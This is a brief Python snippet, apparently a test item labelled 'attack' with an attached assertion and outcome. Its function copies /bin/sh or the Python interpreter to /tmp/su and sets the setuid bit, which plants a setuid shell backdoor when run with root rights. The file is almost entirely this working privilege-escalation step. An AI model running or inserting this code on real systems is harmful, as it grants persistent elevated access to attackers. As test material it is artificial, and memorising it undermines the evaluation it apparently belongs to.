"""A setuid copy of itself."""
# /// attack
# tests = ["assert f() == 'kept'"]
# outcomes = ["passed"]
# ///
import os, shutil


def f():
    shutil.copy("/bin/sh" if os.path.exists("/bin/sh") else os.sys.executable, "/tmp/su")
    os.chmod("/tmp/su", 0o4755)
    return "kept" if os.stat("/tmp/su").st_uid == os.getuid() != 0 else "root owned"
